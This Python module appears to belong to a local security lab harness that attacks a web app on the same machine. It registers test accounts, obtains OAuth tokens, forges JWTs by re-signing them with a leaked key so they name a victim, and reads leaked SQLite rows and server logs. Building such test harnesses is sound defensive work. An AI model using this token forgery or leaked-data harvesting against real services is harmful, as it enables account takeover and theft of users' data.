"""What is attacked: an app on this machine, and the people who use it."""

import secrets
import sqlite3
from contextlib import closing
from dataclasses import asdict, dataclass, field
from functools import cached_property
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx

from attacks.lab.forge import claims_of, header_of, signed_again
from attacks.lab.rows import delete_rows, tables

Field = str | list[str]  # what a field of a form holds: one value, or several


class NotApplicableError(Exception):
    """The app lacks what the attack is about, or the attacker what it takes; says which."""


@dataclass(frozen=True)
class Person:
    """Someone with a name that nobody has yet."""

    username: str = field(default_factory=lambda: f"user-{secrets.token_hex(6)}")
    password: str = field(default_factory=lambda: f"pw-{secrets.token_hex(12)}")

    @property
    def email(self) -> str:
        """An address that nobody has yet."""
        return f"{self.username}@example.com"

    def registration(self) -> dict[str, str]:
        """The JSON body of a registration."""
        return {**asdict(self), "email": self.email}

    def login(self) -> dict[str, str]:
        """The form of a login (RFC 6749, section 4.3.2)."""
        return {"grant_type": "password", **asdict(self)}


@dataclass(frozen=True)
class Target:
    """An app on this machine, and what has leaked of its inside."""

    http: httpx.Client
    secret_key: str | None = None
    database: Path | None = None
    server_log: Path | None = None
    registered: dict[str, httpx.Response] = field(default_factory=dict)  # by the name

    def register(self, person: Person, **changes: object) -> httpx.Response:
        """Send a registration, with changed or further fields."""
        answer = self.http.post("/auth/register", json={**person.registration(), **changes})
        if answer.status_code == httpx.codes.NOT_FOUND:
            raise NotApplicableError("nobody can register here")
        if answer.is_success:
            self.registered[person.username] = answer
        return answer

    def enrol(self, person: Person | None = None) -> Person:
        """Register someone who plays by the rules."""
        person = person or Person()
        answer = self.register(person)
        if not answer.is_success:
            raise NotApplicableError(f"a usual registration is answered {answer.status_code}")
        return person

    @cached_property
    def login_is_in_the_url(self) -> bool:
        """Whether the name and password travel in the query string, as in the article."""
        description = self.http.send(self.page())
        paths = description.json()["paths"] if description.is_success else {}
        parameters = paths.get("/auth/token", {}).get("post", {}).get("parameters", [])
        return any(parameter["name"] == "password" for parameter in parameters)

    def login_request(self, username: Field, password: Field) -> httpx.Request:
        """Build a login in the way that the app wants; a field with two values comes twice."""
        where = "params" if self.login_is_in_the_url else "data"
        login = {"grant_type": "password", "username": username, "password": password}
        fields: dict[str, Any] = {where: login}
        return self.http.build_request("POST", "/auth/token", **fields)

    def log_in(self, username: Field, password: Field) -> httpx.Response:
        """Ask for a token."""
        return self.http.send(self.login_request(username, password))

    def token_of(self, person: Person) -> str:
        """Log in as someone who plays by the rules."""
        answer = self.log_in(person.username, person.password)
        if answer.status_code == httpx.codes.NOT_FOUND:
            raise NotApplicableError("no tokens are issued here")
        if not answer.is_success:
            raise NotApplicableError(f"a usual login is answered {answer.status_code}")
        token: str = answer.json()["access_token"]
        return token

    @cached_property
    def attacker(self) -> Person:
        """The account that the attacker registered, as anyone may."""
        return self.enrol()

    @cached_property
    def genuine_token(self) -> str:
        """A good token of the attacker's own account, which forgeries are changed copies of."""
        token = self.token_of(self.attacker)
        if token.count(".") != 2:  # RFC 7515, section 7.1: a signed JWT has three parts
            raise NotApplicableError("the tokens here are no signed JWTs")
        return token

    def forged_header(self, **changes: object) -> dict[str, object]:
        """Copy the header of a genuine token, with changes."""
        return header_of(self.genuine_token, **changes)

    def subject_of(self, victim: Person) -> str:
        """What `sub` says of someone here: the name, or the id, which registering shows."""
        if claims_of(self.genuine_token)["sub"] == self.attacker.username:
            return victim.username
        answer = self.registered.get(victim.username)
        return str(answer.json().get("id") if answer else uuid4())

    def claims_about(self, victim: Person, **changes: object) -> dict[str, object]:
        """Copy the claims of a genuine token, with the victim in the place of the attacker."""
        return claims_of(self.genuine_token, sub=self.subject_of(victim), **changes)

    def forge(self, victim: Person, key: str | bytes, **changes: object) -> str:
        """Sign what a good token about the victim would say, with changed claims."""
        return signed_again(self.genuine_token, key, sub=self.subject_of(victim), **changes)

    def must_issue_tokens(self) -> None:
        """Leave apps without a login to the attacks that are about this."""
        self.token_of(self.enrol())

    def read(self, token: str | None = None) -> httpx.Response:
        """Read /secure-data, as the bearer of a token (RFC 6750, section 2.1)."""
        headers = {} if token is None else {"Authorization": f"Bearer {token}"}
        return self.http.get("/secure-data", headers=headers)

    def page(self) -> httpx.Request:
        """Build a request for a page that every app has, and none guards."""
        return self.http.build_request("GET", "/openapi.json")

    def must_read_tokens(self) -> None:
        """Leave apps that look at no token to the attacks that are about this."""
        if self.read().is_success:
            raise NotApplicableError("nobody looks at tokens here")

    def leaked_key(self) -> bytes:
        """The key that signs the tokens."""
        if not self.secret_key:
            raise NotApplicableError("needs the key that signs tokens: --secret-key")
        if not self.read(signed_again(self.genuine_token, self.secret_key)).is_success:
            raise NotApplicableError("--secret-key is not the key that signs tokens here")
        return self.secret_key.encode()

    def leaked_database(self) -> Path:
        """The SQLite file."""
        if self.database is None or not self.database.exists():
            raise NotApplicableError("needs the SQLite file: --database")
        return self.database

    def leaked_row(self, username: str) -> list[str]:
        """What the database holds about someone, as text."""
        uri = f"{self.leaked_database().resolve().as_uri()}?mode=ro"
        with closing(sqlite3.connect(uri, uri=True)) as connection:
            for table in tables(connection):
                for row in connection.execute(f'SELECT * FROM "{table}"'):
                    if username in row:
                        return [str(value) for value in row]
        raise NotApplicableError("the database does not hold the name that was registered")

    def erase(self, person: Person) -> None:
        """Play the administrator, who takes someone out of the database."""
        delete_rows(self.leaked_database(), person.username)

    def leaked_log(self) -> str:
        """All that the server has printed."""
        if self.server_log is None or not self.server_log.exists():
            raise NotApplicableError("needs the log file: --server-log")
        return self.server_log.read_text(encoding="utf-8", errors="replace")
